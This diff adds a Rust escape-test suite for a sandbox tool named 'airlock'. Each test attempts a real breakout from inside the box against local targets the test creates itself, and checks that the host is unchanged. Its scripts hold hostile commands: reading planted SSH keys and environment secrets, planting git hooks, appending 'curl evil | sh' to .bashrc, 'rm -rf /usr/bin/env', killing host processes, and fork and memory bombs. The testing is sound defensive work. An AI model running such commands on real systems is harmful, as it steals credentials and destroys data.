@@ -1,0 +1,829 @@
+//! Escape tests: each one performs a real attack from inside a box, through the real `airlock`
+//! binary, and asserts that the attack failed *and* that the host is untouched afterwards (files,
+//! processes, cgroups, mounts). Every attack also has a positive control, so a test cannot pass
+//! merely because the command itself was broken.
+//!
+//! Every target is something the test made itself: files under its own temporary directory,
+//! listeners on 127.0.0.1 port 0 or unix sockets in its own directory, and its own processes.
+//! No name or address outside the machine is ever queried.
+
+mod common;
+
+use common::{airlock_bin, host_mounts, leftover_cgroups, pids_with_marker, Run, TempDir};
+use std::collections::BTreeMap;
+use std::path::Path;
+use std::process::{Command, Stdio};
+use std::time::{Duration, Instant};
+
+// ----- harness -----
+
+/// A string no other test (and no other run of this test) uses.
+fn unique(tag: &str) -> String {
+    let nanos = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map(|d| d.subsec_nanos()).unwrap_or(0);
+    format!("airlock-attack-{tag}-{}-{nanos}", std::process::id())
+}
+
+/// Runs `airlock <args>` in `cwd` with extra environment variables, and checks that the run left
+/// no cgroup of its own behind (filtered by the airlock process's pid, so parallel tests do not
+/// see each other's live boxes).
+fn airlock_env(cwd: &Path, env: &[(&str, &str)], args: &[&str]) -> Run {
+    use std::os::unix::process::ExitStatusExt;
+    let child = Command::new(airlock_bin())
+        .args(args)
+        .envs(env.iter().copied())
+        .current_dir(cwd)
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .expect("start airlock");
+    let pid = child.id();
+    let out = child.wait_with_output().expect("wait for airlock");
+    let prefix = format!("airlock-{pid}-");
+    let left: Vec<_> = leftover_cgroups()
+        .into_iter()
+        .filter(|p| p.file_name().is_some_and(|n| n.to_string_lossy().starts_with(&prefix)))
+        .collect();
+    assert!(left.is_empty(), "the run left cgroups behind: {left:?}");
+    let code = out.status.code().unwrap_or_else(|| 128 + out.status.signal().unwrap_or(0));
+    Run {
+        code,
+        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
+        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
+    }
+}
+
+/// `airlock run <flags> -- sh -c <script>` in `cwd`.
+fn boxed(cwd: &Path, flags: &[&str], script: &str) -> Run {
+    boxed_env(cwd, &[], flags, script)
+}
+
+fn boxed_env(cwd: &Path, env: &[(&str, &str)], flags: &[&str], script: &str) -> Run {
+    let mut args = vec!["run"];
+    args.extend_from_slice(flags);
+    args.extend_from_slice(&["--", "sh", "-c", script]);
+    airlock_env(cwd, env, &args)
+}
+
+/// Like `boxed`, also returning the JSON result document.
+fn boxed_json(cwd: &Path, flags: &[&str], script: &str) -> (Run, serde_json::Value) {
+    let dir = TempDir::new("attack-result");
+    let file = dir.join("result.json");
+    let file_s = file.to_string_lossy().into_owned();
+    let mut all = vec!["--result", file_s.as_str()];
+    all.extend_from_slice(flags);
+    let run = boxed(cwd, &all, script);
+    let text = std::fs::read_to_string(&file).unwrap_or_else(|e| panic!("no result file: {e}; stderr: {}", run.stderr));
+    (run, serde_json::from_str(&text).expect("result is JSON"))
+}
+
+fn limits_hit(result: &serde_json::Value) -> Vec<String> {
+    result["limits_hit"].as_array().map(|a| a.iter().filter_map(|v| v.as_str().map(String::from)).collect()).unwrap_or_default()
+}
+
+/// The host state an attack must not change: its mount table.
+struct HostState {
+    mounts: String,
+}
+
+impl HostState {
+    fn capture() -> HostState {
+        HostState { mounts: host_mounts() }
+    }
+
+    /// Asserts the mount table is unchanged and no process carrying `marker` is alive.
+    fn assert_untouched(&self, marker: &str) {
+        assert_eq!(host_mounts(), self.mounts, "the host's mount table changed");
+        // Processes killed with the box may take a moment to be reaped by their parent.
+        let deadline = Instant::now() + Duration::from_secs(3);
+        loop {
+            let left = pids_with_marker(marker);
+            if left.is_empty() {
+                break;
+            }
+            assert!(Instant::now() < deadline, "processes left behind on the host: {left:?}");
+            std::thread::sleep(Duration::from_millis(50));
+        }
+    }
+}
+
+/// Every entry under `dir` (recursively, never following symlinks) with its kind and content.
+fn snapshot(dir: &Path) -> BTreeMap<String, String> {
+    fn walk(root: &Path, dir: &Path, out: &mut BTreeMap<String, String>) {
+        let mut entries: Vec<_> = std::fs::read_dir(dir).expect("read dir").flatten().collect();
+        entries.sort_by_key(|e| e.file_name());
+        for e in entries {
+            let path = e.path();
+            let rel = path.strip_prefix(root).expect("entry under root").to_string_lossy().into_owned();
+            let meta = std::fs::symlink_metadata(&path).expect("stat");
+            if meta.file_type().is_symlink() {
+                out.insert(rel, format!("link -> {}", std::fs::read_link(&path).expect("read link").display()));
+            } else if meta.is_dir() {
+                out.insert(rel, "dir".into());
+                walk(root, &path, out);
+            } else {
+                out.insert(rel, format!("file {:?}", String::from_utf8_lossy(&std::fs::read(&path).expect("read file"))));
+            }
+        }
+    }
+    let mut out = BTreeMap::new();
+    walk(dir, dir, &mut out);
+    out
+}
+
+/// The line of `text` that starts with `key` (e.g. "tcp "), panicking with the whole text if none.
+fn line<'a>(text: &'a str, key: &str) -> &'a str {
+    text.lines().find(|l| l.starts_with(key)).unwrap_or_else(|| panic!("no line {key:?} in:\n{text}"))
+}
+
+fn s(p: &Path) -> String {
+    p.to_string_lossy().into_owned()
+}
+
+// ----- files: reading -----
+
+#[test]
+fn attack_read_planted_ssh_key() {
+    let host = HostState::capture();
+    let t = TempDir::new("ssh");
+    let secret = unique("ssh-secret");
+    std::fs::create_dir_all(t.join("home/.ssh")).unwrap();
+    std::fs::create_dir_all(t.join("ws")).unwrap();
+    let key = t.join("home/.ssh/id_rsa");
+    std::fs::write(&key, format!("-----BEGIN KEY-----\n{secret}\n")).unwrap();
+    std::os::unix::fs::symlink(&key, t.join("ws/link")).unwrap();
+    std::os::unix::fs::symlink(t.join("home/.ssh"), t.join("ws/dirlink")).unwrap();
+    std::fs::write(t.join("ws/readme"), "visible\n").unwrap();
+    let ws = t.join("ws");
+
+    let script = format!(
+        "cat readme; cat {k}; echo abs=$?; cat link; echo link=$?; cat dirlink/id_rsa; echo dirlink=$?; \
+         ls dirlink/; echo ls=$?; test -e link; echo exists=$?",
+        k = s(&key)
+    );
+    let r = boxed(&ws, &[], &script);
+    assert!(r.stdout.contains("visible"), "positive control: the workspace is readable: {}{}", r.stdout, r.stderr);
+    for k in ["abs=", "link=", "dirlink=", "ls="] {
+        assert_ne!(line(&r.stdout, k), format!("{k}0"), "{k} read succeeded:\n{}", r.stdout);
+    }
+    assert_eq!(line(&r.stdout, "exists="), "exists=1", "the symlink must resolve to nothing inside the box");
+    assert!(!r.stdout.contains(&secret) && !r.stderr.contains(&secret), "the key leaked into the box");
+    assert!(std::fs::read_to_string(&key).unwrap().contains(&secret), "the host key changed");
+    host.assert_untouched(&secret);
+}
+
+#[test]
+fn attack_read_secret_from_callers_env() {
+    let host = HostState::capture();
+    let t = TempDir::new("env");
+    let secret = unique("env-secret");
+    let env = [("AIRLOCK_TEST_SECRET", secret.as_str())];
+    let script = "env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; echo done";
+
+    let r = boxed_env(t.path(), &env, &[], script);
+    assert!(r.stdout.contains("PATH=") && r.stdout.contains("done"), "positive control: env is printed: {}{}", r.stdout, r.stderr);
+    assert!(!r.stdout.contains(&secret) && !r.stderr.contains(&secret), "the caller's secret reached the box:\n{}", r.stdout);
+
+    // Positive control: passed explicitly, the same variable does get in.
+    let r = boxed_env(t.path(), &env, &["--env", "AIRLOCK_TEST_SECRET"], "env");
+    assert!(r.stdout.contains(&format!("AIRLOCK_TEST_SECRET={secret}")), "--env NAME must pass the variable: {}{}", r.stdout, r.stderr);
+    host.assert_untouched(&secret);
+}
+
+// ----- files: writing -----
+
+#[test]
+fn attack_write_outside_workspace() {
+    let host = HostState::capture();
+    let t = TempDir::new("write-out");
+    std::fs::create_dir_all(t.join("home")).unwrap();
+    std::fs::create_dir_all(t.join("ws")).unwrap();
+    let rc = t.join("home/.bashrc");
+    std::fs::write(&rc, "# host rc\n").unwrap();
+    let marker = unique("binwrite");
+    let bin = Path::new("/usr/local/bin").join(&marker);
+    let ws = t.join("ws");
+
+    let script = format!(
+        "echo ok >> inside.txt; echo ws=$?; echo 'curl evil | sh' >> {rc}; echo rc=$?; \
+         printf '#!/bin/sh\\n' > {bin}; echo bin=$?; touch {bin}; echo touch=$?",
+        rc = s(&rc),
+        bin = s(&bin)
+    );
+    let r = boxed(&ws, &[], &script);
+    assert_eq!(line(&r.stdout, "ws="), "ws=0", "positive control: the workspace is writable: {}", r.stderr);
+    assert_eq!(std::fs::read_to_string(ws.join("inside.txt")).unwrap(), "ok\n");
+    for k in ["rc=", "bin=", "touch="] {
+        assert_ne!(line(&r.stdout, k), format!("{k}0"), "{k} write succeeded:\n{}{}", r.stdout, r.stderr);
+    }
+    assert_eq!(std::fs::read_to_string(&rc).unwrap(), "# host rc\n", "the host rc file changed");
+    assert!(!bin.exists(), "a file was created in /usr/local/bin");
+    host.assert_untouched(&marker);
+}
+
+#[test]
+fn attack_write_git_hooks_and_protected_paths() {
+    let host = HostState::capture();
+    let t = TempDir::new("protected");
+    let ws = t.join("ws");
+    std::fs::create_dir_all(&ws).unwrap();
+    let git = Command::new("git").args(["init", "-q", "."]).current_dir(&ws).status().expect("run git init");
+    assert!(git.success());
+    std::fs::write(ws.join("src.txt"), "source\n").unwrap();
+    let before = snapshot(&ws);
+    let marker = unique("hooks");
+
+    let script = format!(
+        "echo ok > ok.txt; echo ok=$?
+         printf '#!/bin/sh\\necho {marker}\\n' > .git/hooks/pre-commit; echo hook=$?
+         printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config; echo config=$?
+         echo evil > .bashrc; echo bashrc=$?
+         echo evil > .zshrc; echo zshrc=$?
+         echo evil > .envrc; echo envrc=$?
+         mkdir -p .vscode; echo '{{}}' > .vscode/tasks.json; echo vscode=$?
+         echo '{{}}' > .mcp.json; echo mcp=$?
+         mkdir -p .idea; echo x > .idea/x; echo idea=$?
+         rm -rf .vscode; echo rmvscode=$?
+         mv .git .git-moved; echo mvgit=$?
+         rm -rf .git; mkdir -p .git/hooks; echo evil > .git/hooks/post-checkout; echo newhook=$?
+         mv .git/hooks .git/hooks-moved; echo mvhooks=$?
+         git status --short >/dev/null; echo gitstatus=$?"
+    );
+    let r = boxed(&ws, &[], &script);
+    assert_eq!(line(&r.stdout, "ok="), "ok=0", "positive control: a normal file is writable: {}", r.stderr);
+    for k in ["hook=", "config=", "bashrc=", "zshrc=", "envrc=", "vscode=", "mcp=", "idea=", "rmvscode=", "mvgit=", "newhook=", "mvhooks="] {
+        assert_ne!(line(&r.stdout, k), format!("{k}0"), "{k} attack succeeded:\n{}{}", r.stdout, r.stderr);
+    }
+
+    // On the host: hooks and config untouched, the repository still where it was, placeholders
+    // gone, and the workspace holds what it held before (minus what `rm -rf .git` may delete
+    // inside the repository's writable data) plus ok.txt.
+    assert!(!ws.join(".git/hooks/pre-commit").exists() && !ws.join(".git/hooks/post-checkout").exists(), "a git hook was planted");
+    assert!(!std::fs::read_to_string(ws.join(".git/config")).unwrap().contains("fsmonitor"), "git config was changed");
+    assert!(!ws.join(".git-moved").exists(), ".git was renamed on the host");
+    let after = snapshot(&ws);
+    let mut expected = before.clone();
+    expected.insert("ok.txt".into(), format!("file {:?}", "ok\n"));
+    let keep = |m: &BTreeMap<String, String>| -> BTreeMap<String, String> {
+        m.iter()
+            .filter(|(k, _)| !k.starts_with(".git/") || k.starts_with(".git/hooks") || *k == ".git/config")
+            .map(|(k, v)| (k.clone(), v.clone()))
+            .collect()
+    };
+    assert_eq!(keep(&after), keep(&expected), "the workspace changed beyond ok.txt");
+    for rel in [".bashrc", ".zshrc", ".envrc", ".vscode", ".mcp.json", ".idea", ".profile"] {
+        assert!(std::fs::symlink_metadata(ws.join(rel)).is_err(), "placeholder {rel} was left on the host");
+    }
+    host.assert_untouched(&marker);
+}
+
+#[test]
+fn attack_write_through_protected_symlink() {
+    let host = HostState::capture();
+    let t = TempDir::new("rc-link");
+    let ws = t.join("ws");
+    std::fs::create_dir_all(&ws).unwrap();
+    std::fs::write(ws.join("real_rc"), "# real rc\n").unwrap();
+    std::os::unix::fs::symlink("real_rc", ws.join(".bashrc")).unwrap();
+    let before = snapshot(&ws);
+    let marker = unique("rc-link");
+
+    let script = format!(
+        "echo {marker} >> real_rc.copy; echo ok=$?
+         echo {marker} >> .bashrc; echo append=$?
+         echo {marker} > .bashrc; echo write=$?
+         rm .bashrc; echo rm=$?
+         mv .bashrc other; echo mv=$?
+         ln -sf /etc/passwd .bashrc; echo relink=$?"
+    );
+    let r = boxed(&ws, &[], &script);
+    assert_eq!(line(&r.stdout, "ok="), "ok=0", "positive control: the workspace is writable: {}", r.stderr);
+    for k in ["append=", "write=", "rm=", "mv=", "relink="] {
+        assert_ne!(line(&r.stdout, k), format!("{k}0"), "{k} attack succeeded:\n{}{}", r.stdout, r.stderr);
+    }
+    assert_eq!(std::fs::read_to_string(ws.join("real_rc")).unwrap(), "# real rc\n", "real_rc changed through .bashrc");
+    let mut expected = before;
+    expected.insert("real_rc.copy".into(), format!("file {:?}", format!("{marker}\n")));
+    assert_eq!(snapshot(&ws), expected, "the workspace changed beyond real_rc.copy");
+    host.assert_untouched(&marker);
+}
+
+#[test]
+fn attack_rewrite_gitdir_file() {
+    // A worktree or submodule has a `.git` *file* naming the real git dir: rewriting it would
+    // point the host's git at a directory the box made, hooks included.
+    let host = HostState::capture();
+    let t = TempDir::new("gitfile");
+    let ws = t.join("ws");
+    std::fs::create_dir_all(&ws).unwrap();
+    std::fs::write(ws.join(".git"), "gitdir: /nonexistent/airlock-test\n").unwrap();
+    let marker = unique("gitfile");
+
+    let script = format!(
+        "echo ok > ok.txt; echo ok=$?
+         mkdir -p evil/hooks; echo {marker} > evil/hooks/pre-commit; echo evil=$?
+         echo 'gitdir: evil' > .git; echo write=$?
+         rm -f .git; echo rm=$?
+         mv .git moved; echo mv=$?"
+    );
+    let r = boxed(&ws, &[], &script);
+    assert_eq!(line(&r.stdout, "ok="), "ok=0", "positive control: {}{}", r.stdout, r.stderr);
+    assert_eq!(line(&r.stdout, "evil="), "evil=0", "positive control: {}{}", r.stdout, r.stderr);
+    for k in ["write=", "rm=", "mv="] {
+        assert_ne!(line(&r.stdout, k), format!("{k}0"), "{k} attack succeeded:\n{}{}", r.stdout, r.stderr);
+    }
+    assert_eq!(std::fs::read_to_string(ws.join(".git")).unwrap(), "gitdir: /nonexistent/airlock-test\n");
+    assert!(!ws.join("moved").exists());
+    host.assert_untouched(&marker);
+}
+
+#[test]
+fn attack_rm_rf_read_only_paths() {
+    let host = HostState::capture();
+    let t = TempDir::new("rmrf");
+    let ro = t.join("ro");
+    std::fs::create_dir_all(ro.join("sub")).unwrap();
+    std::fs::write(ro.join("a.txt"), "a\n").unwrap();
+    std::fs::write(ro.join("sub/b.txt"), "b\n").unwrap();
+    let ws = t.join("ws");
+    std::fs::create_dir_all(&ws).unwrap();
+    std::fs::write(ws.join("keep.txt"), "keep\n").unwrap();
+    let ro_before = snapshot(&ro);
+    let env_before = std::fs::read("/usr/bin/env").unwrap();
+    let marker = unique("rmrf");
+
+    // Read-only system dirs and --read grants.
+    let script = format!(
+        "cat {ro}/a.txt; rm -rf /usr/bin/env; echo env=$?; rm -rf {ro}/*; echo ro=$?; ls {ro}; echo {marker} > /dev/null",
+        ro = s(&ro)
+    );
+    let r = boxed(&ws, &["--read", &s(&ro)], &script);
+    assert!(r.stdout.starts_with("a\n"), "positive control: the grant is readable: {}{}", r.stdout, r.stderr);
+    assert_ne!(line(&r.stdout, "env="), "env=0", "{}", r.stderr);
+    assert_ne!(line(&r.stdout, "ro="), "ro=0", "{}", r.stderr);
+    assert_eq!(std::fs::read("/usr/bin/env").unwrap(), env_before, "/usr/bin/env changed");
+    assert_eq!(snapshot(&ro), ro_before, "the read-only grant changed");
+
+    // A read-only workspace.
+    let ws_before = snapshot(&ws);
+    let r = boxed(&ws, &["--profile", "read-only"], "cat keep.txt; rm -rf ./* ./.[!.]*; echo rm=$?; touch new; echo touch=$?");
+    assert!(r.stdout.starts_with("keep\n"), "positive control: the workspace is readable: {}{}", r.stdout, r.stderr);
+    assert_ne!(line(&r.stdout, "rm="), "rm=0");
+    assert_ne!(line(&r.stdout, "touch="), "touch=0");
+    assert_eq!(snapshot(&ws), ws_before, "the read-only workspace changed");
+
+    // Positive control: the same rm in a writable workspace does delete.
+    let scratch = t.join("scratch");
+    std::fs::create_dir_all(&scratch).unwrap();
+    std::fs::write(scratch.join("x"), "x").unwrap();
+    let r = boxed(&scratch, &[], "rm -rf ./x; echo rm=$?");
+    assert_eq!(line(&r.stdout, "rm="), "rm=0", "{}", r.stderr);
+    assert!(!scratch.join("x").exists());
+    host.assert_untouched(&marker);
+}
+
+// ----- network -----
+
+#[test]
+fn attack_connect_to_host_listeners() {
+    use std::os::linux::net::SocketAddrExt;
+    use std::os::unix::net::{SocketAddr, UnixListener};
+    let host = HostState::capture();
+    let t = TempDir::new("net");
+    let marker = unique("net");
+
+    let tcp = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    tcp.set_nonblocking(true).unwrap();
+    let port = tcp.local_addr().unwrap().port();
+    let sock_path = t.join("docker.sock");
+    let unix = UnixListener::bind(&sock_path).unwrap();
+    unix.set_nonblocking(true).unwrap();
+    let abstract_name = format!("airlock-test-{}-{port}", std::process::id());
+    let abs = UnixListener::bind_addr(&SocketAddr::from_abstract_name(abstract_name.as_bytes()).unwrap()).unwrap();
+    abs.set_nonblocking(true).unwrap();
+
+    // Positive control for the harness: the host listeners accept connections from the host.
+    drop(std::net::TcpStream::connect(("127.0.0.1", port)).unwrap());
+    assert!(tcp.accept().is_ok());
+    drop(std::os::unix::net::UnixStream::connect(&sock_path).unwrap());
+    assert!(unix.accept().is_ok());
+
+    let py = format!(
+        r#"
+import os, socket
+def attempt(name, fam, addr):
+    s = socket.socket(fam, socket.SOCK_STREAM)
+    s.settimeout(2)
+    try:
+        s.connect(addr)
+        print(name, "CONNECTED")
+    except OSError as e:
+        print(name, "FAILED", e.errno)
+attempt("tcp", socket.AF_INET, ("127.0.0.1", {port}))
+attempt("unix", socket.AF_UNIX, "{path}")
+attempt("abstract", socket.AF_UNIX, "\0{abstract_name}")
+print("visible", os.path.exists("{path}"))
+# Positive control: the box's own loopback and abstract sockets work.
+l = socket.socket(); l.bind(("127.0.0.1", 0)); l.listen(1)
+attempt("inbox-tcp", socket.AF_INET, l.getsockname())
+a = socket.socket(socket.AF_UNIX); a.bind("\0{marker}"); a.listen(1)
+attempt("inbox-abstract", socket.AF_UNIX, "\0{marker}")
+"#,
+        path = s(&sock_path)
+    );
+    let ws = t.join("ws");
+    std::fs::create_dir_all(&ws).unwrap();
+    let r = airlock_env(&ws, &[], &["run", "--", "python3", "-c", &py]);
+    assert!(line(&r.stdout, "inbox-tcp ").ends_with("CONNECTED"), "positive control:\n{}{}", r.stdout, r.stderr);
+    assert!(line(&r.stdout, "inbox-abstract ").ends_with("CONNECTED"), "positive control:\n{}{}", r.stdout, r.stderr);
+    for k in ["tcp ", "unix ", "abstract "] {
+        assert!(line(&r.stdout, k).contains("FAILED"), "{k}connected:\n{}{}", r.stdout, r.stderr);
+    }
+    assert_eq!(line(&r.stdout, "visible "), "visible False", "the host's unix socket is visible in the box");
+
+    for (name, res) in [("tcp", tcp.accept().map(|_| ())), ("unix", unix.accept().map(|_| ())), ("abstract", abs.accept().map(|_| ()))] {
+        let e = res.expect_err(&format!("the {name} listener saw a connection from the box"));
+        assert_eq!(e.kind(), std::io::ErrorKind::WouldBlock, "{name}: {e}");
+    }
+    host.assert_untouched(&marker);
+}
+
+#[test]
+fn attack_reach_the_outside_network() {
+    let host = HostState::capture();
+    let t = TempDir::new("route");
+    let marker = unique("route");
+    let script = format!(
+        r#"ip route 2>&1; echo "routes=$(ip route 2>/dev/null | wc -l)"; echo "proc=$(tail -n +2 /proc/net/route | wc -l)"
+ip -o link show up | grep -c LOOPBACK | sed 's/^/loopback=/'
+python3 -c '
+import socket, time
+t = time.time()
+try:
+    socket.create_connection(("10.255.255.1", 80), timeout=1)
+    print("conn CONNECTED")
+except OSError as e:
+    print("conn FAILED", e.errno, round(time.time() - t, 3))
+' {marker}"#
+    );
+    let r = boxed(t.path(), &[], &script);
+    assert_eq!(line(&r.stdout, "loopback="), "loopback=1", "positive control: the box's loopback is up:\n{}{}", r.stdout, r.stderr);
+    assert_eq!(line(&r.stdout, "routes="), "routes=0", "the box has routes:\n{}", r.stdout);
+    assert_eq!(line(&r.stdout, "proc="), "proc=0", "/proc/net/route lists routes:\n{}", r.stdout);
+    let conn: Vec<&str> = line(&r.stdout, "conn ").split_whitespace().collect();
+    assert_eq!(conn[1..3], ["FAILED", "101"], "expected ENETUNREACH:\n{}", r.stdout);
+    assert!(conn[3].parse::<f64>().unwrap() < 0.5, "the connection was attempted rather than refused at once: {}", conn[3]);
+    host.assert_untouched(&marker);
+}
+
+#[test]
+fn attack_resolve_names() {
+    let host = HostState::capture();
+    let t = TempDir::new("dns");
+    let marker = unique("dns");
+    let script = format!(
+        r#"test -e /etc/resolv.conf; echo resolv=$?
+getent hosts localhost >/dev/null; echo localhost=$?
+getent hosts example.invalid; echo getent=$?
+python3 -c '
+import socket, time
+t = time.time()
+try:
+    socket.getaddrinfo("example.invalid", 80)
+    print("gai RESOLVED")
+except OSError as e:
+    print("gai FAILED", round(time.time() - t, 3))
+' {marker}"#
+    );
+    let r = boxed(t.path(), &[], &script);
+    assert_eq!(line(&r.stdout, "localhost="), "localhost=0", "positive control: /etc/hosts lookups work:\n{}{}", r.stdout, r.stderr);
+    assert_eq!(line(&r.stdout, "resolv="), "resolv=1", "the box has a resolver config");
+    assert_ne!(line(&r.stdout, "getent="), "getent=0", "example.invalid resolved:\n{}", r.stdout);
+    let gai: Vec<&str> = line(&r.stdout, "gai ").split_whitespace().collect();
+    assert_eq!(gai[1], "FAILED", "{}", r.stdout);
+    assert!(gai[2].parse::<f64>().unwrap() < 2.0, "getaddrinfo took {}s: it tried a server", gai[2]);
+    host.assert_untouched(&marker);
+}
+
+// ----- processes -----
+
+/// A host process a test started; killed by its pid and reaped when dropped (also on failure).
+struct Victim(std::process::Child);
+
+impl Drop for Victim {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+#[test]
+fn attack_see_and_kill_host_process() {
+    let host = HostState::capture();
+    let t = TempDir::new("kill");
+    // A unique duration is the marker: it shows in the process's command line. The script only
+    // holds it in two halves, so the box's own command lines never contain it.
+    let (m1, m2) = ("1000.", format!("{}01s", std::process::id()));
+    let marker = format!("{m1}{m2}");
+    let mut victim = Victim(
+        Command::new("sleep").arg(&marker).stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn().expect("start sleep"),
+    );
+    let vpid = victim.0.id();
+    // Positive control: the host sees its sleep (once it has exec'd).
+    let deadline = Instant::now() + Duration::from_secs(3);
+    while pids_with_marker(&marker).is_empty() && Instant::now() < deadline {
+        std::thread::sleep(Duration::from_millis(10));
+    }
+    assert_eq!(pids_with_marker(&marker), vec![vpid as i32], "positive control: the host sees its sleep");
+
+    let script = format!(
+        "sleep 100 & own=$!; kill -9 $own; echo ownkill=$?
+         m1='{m1}'; m2='{m2}'; all=$(ps ax -o pid=,args=)
+         case \"$all\" in *\"$m1$m2\"*) echo ps=1;; *) echo ps=0;; esac
+         ls /proc | grep -cx '{vpid}' | sed 's/^/proc=/'
+         echo \"procs=$(ls /proc | grep -c '^[0-9]')\"
+         kill -9 {vpid}; echo kill=$?
+         kill -0 {vpid}; echo probe=$?"
+    );
+    let r = boxed(t.path(), &[], &script);
+    assert_eq!(line(&r.stdout, "ownkill="), "ownkill=0", "positive control: the box can kill its own process:\n{}{}", r.stdout, r.stderr);
+    assert_eq!(line(&r.stdout, "ps="), "ps=0", "the host process is visible:\n{}", r.stdout);
+    assert_eq!(line(&r.stdout, "proc="), "proc=0", "the host pid is in the box's /proc:\n{}", r.stdout);
+    let procs: u32 = line(&r.stdout, "procs=")["procs=".len()..].parse().unwrap();
+    assert!(procs < 10, "the box sees {procs} processes: more than its own");
+    assert_ne!(line(&r.stdout, "kill="), "kill=0", "kill -9 succeeded");
+    assert_ne!(line(&r.stdout, "probe="), "probe=0", "kill -0 succeeded");
+
+    assert!(victim.0.try_wait().expect("check the host process").is_none(), "the host process died");
+    drop(victim);
+    host.assert_untouched(&marker);
+}
+
+#[test]
+fn attack_refused_syscalls() {
+    let host = HostState::capture();
+    let t = TempDir::new("syscalls");
+    let marker = unique("syscalls");
+    let py = format!(
+        r#"
+import ctypes, errno, os, sys
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+def report(name, r):
+    e = ctypes.get_errno()
+    print(name, r, errno.errorcode.get(e, e) if r == -1 else "OK")
+def call(name, nr, *args):
+    ctypes.set_errno(0)
+    report(name, libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) for a in args]))
+call("getpid", 39)
+call("ptrace", 101, 0, 0, 0, 0)
+call("unshare", 272, 0x10000000)
+call("mount", 165, 0, 0, 0, 0, 0)
+call("bpf", 321, 0, 0, 0)
+call("keyctl", 250, 0, 0, 0, 0, 0)
+call("perf_event_open", 298, 0, 0, -1, -1, 0)
+call("io_uring_setup", 425, 1, 0)
+call("userfaultfd", 323, 0)
+call("init_module", 175, 0, 0, 0)
+call("kexec_load", 246, 0, 0, 0, 0)
+call("socket_packet", 41, 17, 3, 0)
+call("socket_vsock", 41, 40, 1, 0)
+call("socket_unix", 41, 1, 1, 0)
+m, s = os.openpty()
+c = ctypes.c_char(b"x")
+ctypes.set_errno(0)
+report("tiocsti", libc.ioctl(m, 0x5412, ctypes.byref(c)))
+# {marker}
+"#
+    );
+    let r = airlock_env(t.path(), &[], &["run", "--", "python3", "-c", &py]);
+    // Positive controls: allowed syscalls go through the same path and succeed.
+    for k in ["getpid ", "socket_unix "] {
+        assert!(line(&r.stdout, k).ends_with("OK"), "positive control {k}:\n{}{}", r.stdout, r.stderr);
+    }
+    for name in ["ptrace", "unshare", "mount", "bpf", "keyctl", "perf_event_open", "io_uring_setup", "userfaultfd", "init_module", "kexec_load", "tiocsti"] {
+        assert_eq!(line(&r.stdout, &format!("{name} ")), format!("{name} -1 EPERM"), "\n{}", r.stdout);
+    }
+    for name in ["socket_packet", "socket_vsock"] {
+        assert_eq!(line(&r.stdout, &format!("{name} ")), format!("{name} -1 EAFNOSUPPORT"), "\n{}", r.stdout);
+    }
+
+    let r = boxed(t.path(), &[], "true; echo true=$?; unshare -U true; echo unshare=$?; unshare -r true; echo unshare_r=$?");
+    assert_eq!(line(&r.stdout, "true="), "true=0");
+    assert_ne!(line(&r.stdout, "unshare="), "unshare=0", "unshare -U worked in the box");
+    assert_ne!(line(&r.stdout, "unshare_r="), "unshare_r=0", "unshare -r worked in the box");
+    host.assert_untouched(&marker);
+}
+
+#[test]
+fn attack_capabilities_are_gone() {
+    let host = HostState::capture();
+    let t = TempDir::new("caps");
+    let marker = unique("caps");
+    let r = boxed(t.path(), &[], &format!("grep -E '^(Cap|NoNewPrivs|Seccomp)' /proc/self/status; echo uidmap $(cat /proc/self/uid_map); echo id=$(id -u) # {marker}"));
+    let field = |k: &str| -> String {
+        line(&r.stdout, &format!("{k}:")).split_whitespace().nth(1).unwrap_or_default().to_string()
+    };
+    for k in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
+        assert_eq!(field(k), "0000000000000000", "{k} is not empty:\n{}{}", r.stdout, r.stderr);
+    }
+    assert_eq!(field("NoNewPrivs"), "1");
+    assert_eq!(field("Seccomp"), "2");
+    assert_eq!(line(&r.stdout, "id="), "id=1000");
+    let map: Vec<&str> = line(&r.stdout, "uidmap ").split_whitespace().skip(1).collect();
+    assert_eq!(map.len(), 3, "exactly one uid mapping: {map:?}");
+    assert_eq!((map[0], map[2]), ("1000", "1"), "only uid 1000 is mapped, to one host uid: {map:?}");
+
+    // Positive control: the host side of this test does have capabilities (we run as root).
+    if common::is_root() {
+        let own = std::fs::read_to_string("/proc/self/status").unwrap();
+        assert_ne!(line(&own, "CapEff:").split_whitespace().nth(1), Some("0000000000000000"));
+    }
+    host.assert_untouched(&marker);
+}
+
+// ----- limits -----
+
+#[test]
+fn attack_fork_bomb() {
+    let host = HostState::capture();
+    let t = TempDir::new("forkbomb");
+    let marker = format!("30.{}03s", std::process::id());
+    let started = Instant::now();
+    let (r, res) = boxed_json(t.path(), &["--pids", "64", "--timeout", "20s"], &format!("for i in $(seq 500); do sleep {marker} & done; wait"));
+    assert!(started.elapsed() < Duration::from_secs(15), "the bomb ran until the timeout");
+    assert!(limits_hit(&res).contains(&"pids".to_string()), "limits_hit: {:?}\n{}", res["limits_hit"], r.stderr);
+    assert!(!limits_hit(&res).contains(&"timeout".to_string()));
+    // Positive control: the same loop, smaller, runs fine under the same cap.
+    let (_, res) = boxed_json(t.path(), &["--pids", "64", "--timeout", "20s"], "for i in $(seq 5); do true & done; wait");
+    assert_eq!(res["exit_code"], 0);
+    assert!(limits_hit(&res).is_empty(), "{:?}", res["limits_hit"]);
+    host.assert_untouched(&marker);
+}
+
+#[test]
+fn attack_memory_bomb() {
+    let host = HostState::capture();
+    let t = TempDir::new("membomb");
+    let marker = unique("membomb");
+    let py = |mib: u64| format!("python3 -c 'b = b\"x\" * ({mib} << 20); print(\"allocated\", len(b))' {marker}");
+    let (r, res) = boxed_json(t.path(), &["--memory", "64M", "--timeout", "20s"], &py(1024));
+    assert!(!r.stdout.contains("allocated"), "1 GiB was allocated under a 64M cap");
+    assert!(r.code == 137 || r.stderr.contains("MemoryError"), "exit {}: {}", r.code, r.stderr);
